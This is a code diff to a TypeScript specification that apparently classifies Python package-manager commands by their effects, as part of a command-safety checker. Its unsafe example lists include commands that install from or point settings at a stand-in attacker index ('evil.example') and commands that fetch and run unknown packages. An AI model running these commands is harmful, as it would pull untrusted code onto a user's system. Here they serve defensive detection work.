@@ -1,11 +1,11 @@
 /** Package managers and environments of Python. */
-import type { Effect } from "../contract/effect.ts";
-import { each, fixed, given, line, network, runs, task, texts } from "./makers.ts";
+import { act, type Effect } from "../contract/effect.ts";
+import { each, given, line, network, runs, task, texts } from "./makers.ts";
 import { behind, fetchedAndRun, installs, publishes, removes, runsBehind, wholly } from "./packages-effects.ts";
 import { PIP_FLAGS, PYPI, pipCommands } from "./packages-pip.ts";
 import type { CommandSpec, ProgramSpec } from "./spec.ts";
 
-const environment = fixed("package", "change", "a Python environment");
+const environment = act("package.change");
 
 /** pipx, and uvx which runs a tool whatever its first word is. */
 const PIPX: CommandSpec = {
@@ -34,7 +34,7 @@ const PIPX: CommandSpec = {
       always: [installs(PYPI)],
     }),
     ...each("uninstall uninstall-all uninject", { operands: "text", always: [removes] }),
-    ...each("ensurepath", wholly(fixed("persist", "change", "the shell's start files"))),
+    ...each("ensurepath", wholly(act("start.shell"))),
     "*": { style: "words", operands: "text", always: [(use) => fetchedAndRun(use, use.operands, PYPI)] },
   },
   read: () => ({ understood: true, effects: [] }),
@@ -55,18 +55,24 @@ export const packagesPython: readonly ProgramSpec[] = [
     examples: {
       safe: ["pip --version", "pip list", "pip show requests", "pip list --format json", "pip check"],
       unsafe: [
-        ["pip install requests", "package"],
-        ["pip install -q -e .", "package"],
-        ["pip install -r requirements.txt", "package"],
-        ["pip install --index-url https://evil.example x", "package"],
-        ["pip install --trusted-host evil.example x", "security"],
-        ["pip uninstall -y x", "package"],
-        ["pip download x", "package"],
-        ["pip list --outdated", "network"],
-        ["pip config set global.index-url https://evil.example", "persist"],
-        ["pip freeze", "run"],
-        ["pip --python /tmp/x list", "run"],
-        ["pip --log /tmp/x list", "write"],
+        ["pip install requests", ["package.install", "network.contact", "run.task"]],
+        ["pip install -q -e .", ["file.read", "package.install", "network.contact", "run.task"]],
+        ["pip install -r requirements.txt", ["file.read", "package.install", "network.contact", "run.task"]],
+        [
+          "pip install --index-url https://evil.example x",
+          ["package.install-elsewhere", "network.contact", "run.task"],
+        ],
+        [
+          "pip install --trusted-host evil.example x",
+          ["package.install", "network.contact", "package.unverified", "run.task"],
+        ],
+        ["pip uninstall -y x", ["package.delete"]],
+        ["pip download x", ["package.install", "network.contact", "run.task"]],
+        ["pip list --outdated", ["network.contact"]],
+        ["pip config set global.index-url https://evil.example", ["package.settings"]],
+        ["pip freeze", ["run.helper"]],
+        ["pip --python /tmp/x list", ["run.helper"]],
+        ["pip --log /tmp/x list", ["file.write"]],
       ],
     },
   },
@@ -77,8 +83,8 @@ export const packagesPython: readonly ProgramSpec[] = [
     examples: {
       safe: [],
       unsafe: [
-        ["pipx run cowsay", "package"],
-        ["pipx install black", "package"],
+        ["pipx run cowsay", ["run.unknown-program", "package.fetch-run", "network.contact"]],
+        ["pipx install black", ["package.install", "network.contact", "run.task"]],
       ],
     },
   },
@@ -88,8 +94,8 @@ export const packagesPython: readonly ProgramSpec[] = [
     examples: {
       safe: [],
       unsafe: [
-        ["uvx ruff check", "run"],
-        ["uvx evil", "package"],
+        ["uvx ruff check", ["run.task"]],
+        ["uvx evil", ["run.unknown-program", "package.fetch-run", "network.contact"]],
       ],
     },
   },
@@ -129,7 +135,7 @@ export const packagesPython: readonly ProgramSpec[] = [
         flags: "--frozen --outdated --invert --no-dedupe",
         values: texts("--depth -d --package"),
         operands: "text",
-        always: [task("resolves dependencies"), network(PYPI, false)],
+        always: [task, network(PYPI, false)],
       },
       tool: {
         commands: {
@@ -162,43 +168,40 @@ export const packagesPython: readonly ProgramSpec[] = [
             operands: "text",
             always: [runs("helper", "interpreters are asked for their version")],
           }),
-          ...each(
-            "install uninstall pin",
-            wholly(fixed("package", "change", "the version of Python"), network("github.com", false)),
-          ),
+          ...each("install uninstall pin", wholly(act("package.toolchain"), network("github.com", false))),
         },
       },
       ...each(
         "venv init",
         wholly(environment, (use) => [{ do: "write", target: use.cwd, recursive: true }]),
       ),
-      ...each("build", wholly(task("build"))),
+      ...each("build", wholly(task)),
       publish: wholly(publishes),
       version: { flags: "--short", operands: { max: 0 } },
       cache: {
         commands: {
           dir: { operands: { max: 0 } },
-          ...each("clean prune", wholly(fixed("package", "delete", "the package cache"))),
+          ...each("clean prune", wholly(act("package.cache-delete"))),
         },
       },
-      self: wholly(fixed("package", "change", "uv itself"), network("github.com", false)),
+      self: wholly(act("package.toolchain"), network("github.com", false)),
       export: {
         flags: PIP_FLAGS,
         values: { ...texts("--format"), "-o": "write", "--output-file": "write" },
         operands: { max: 0 },
-        always: [task("resolves dependencies")],
+        always: [task],
       },
     },
     examples: {
       safe: ["uv --version"],
       unsafe: [
-        ["uv run pytest -x", "run"],
-        ["uv run --with evil python x.py", "run"],
-        ["uv pip install x", "package"],
-        ["uv add httpx", "package"],
-        ["uv sync", "package"],
-        ["uv publish", "publish"],
-        ["uv tool run ruff check", "run"],
+        ["uv run pytest -x", ["run.task", "run.task"]],
+        ["uv run --with evil python x.py", ["run.task", "run.script"]],
+        ["uv pip install x", ["run.helper", "package.install", "network.contact", "run.task"]],
+        ["uv add httpx", ["package.install", "network.contact", "run.task"]],
+        ["uv sync", ["package.install", "network.contact", "run.task"]],
+        ["uv publish", ["publish.package", "network.send"]],
+        ["uv tool run ruff check", ["run.task"]],
       ],
     },
   },
@@ -239,25 +242,25 @@ export const packagesPython: readonly ProgramSpec[] = [
       search: wholly(network(PYPI, false)),
       ...each("env venv", wholly(environment)),
       ...each("shell", wholly(runs("unknown-program", "a shell in the environment"))),
-      ...each("build", wholly(task("build"))),
-      publish: wholly(publishes, task("build")),
+      ...each("build", wholly(task)),
+      publish: wholly(publishes, task),
       ...each(
         "config",
-        wholly((use) => [{ do: "persist", op: "change", detail: `package manager settings: ${line(use.operands)}` }]),
+        wholly((use) => [act("package.settings", { on: line(use.operands) })]),
       ),
       ...each("init new export cache source self", wholly(environment)),
-      ...each("test fmt lint", wholly(task("test or format"))),
+      ...each("test fmt lint", wholly(task)),
     },
     examples: {
       safe: [],
       unsafe: [
-        ["poetry run pytest", "run"],
-        ["poetry update --no-interaction", "package"],
-        ["poetry add x", "package"],
-        ["poetry publish", "publish"],
-        ["poetry --version", "run"],
-        ["poetry show", "run"],
-        ["pipenv run python -c 'import os'", "run"],
+        ["poetry run pytest", ["run.helper", "run.task", "run.task"]],
+        ["poetry update --no-interaction", ["run.helper", "package.install", "network.contact", "run.task"]],
+        ["poetry add x", ["run.helper", "package.install", "network.contact", "run.task"]],
+        ["poetry publish", ["run.helper", "publish.package", "network.send", "run.task"]],
+        ["poetry --version", ["run.helper"]],
+        ["poetry show", ["run.helper", "run.helper"]],
+        ["pipenv run python -c 'import os'", ["run.helper", "run.task", "run.code"]],
       ],
     },
   },
@@ -296,9 +299,9 @@ export const packagesPython: readonly ProgramSpec[] = [
     examples: {
       safe: ["conda --version", "conda info", "conda list -n base"],
       unsafe: [
-        ["conda install numpy", "package"],
-        ["conda run -n x python a.py", "run"],
-        ["conda env remove -n x", "package"],
+        ["conda install numpy", ["package.install", "network.contact", "run.task"]],
+        ["conda run -n x python a.py", ["run.task", "run.script"]],
+        ["conda env remove -n x", ["package.change"]],
       ],
     },
   },
@@ -310,9 +313,12 @@ export const packagesPython: readonly ProgramSpec[] = [
       upload: wholly(publishes),
       publish: wholly(publishes),
       check: { operands: "read" },
-      ...each("build install register", wholly(task("build"))),
+      ...each("build install register", wholly(task)),
     },
-    examples: { safe: ["twine check dist/x.whl"], unsafe: [["twine upload dist/*", "publish"]] },
+    examples: {
+      safe: ["twine check dist/x.whl"],
+      unsafe: [["twine upload dist/*", ["publish.package", "network.send"]]],
+    },
   },
   {
     names: ["virtualenv", "pyenv"],
@@ -324,8 +330,8 @@ export const packagesPython: readonly ProgramSpec[] = [
     examples: {
       safe: ["pyenv --version"],
       unsafe: [
-        ["virtualenv .venv", "package"],
-        ["pyenv install 3.13", "package"],
+        ["virtualenv .venv", ["package.change"]],
+        ["pyenv install 3.13", ["package.change"]],
       ],
     },
   },
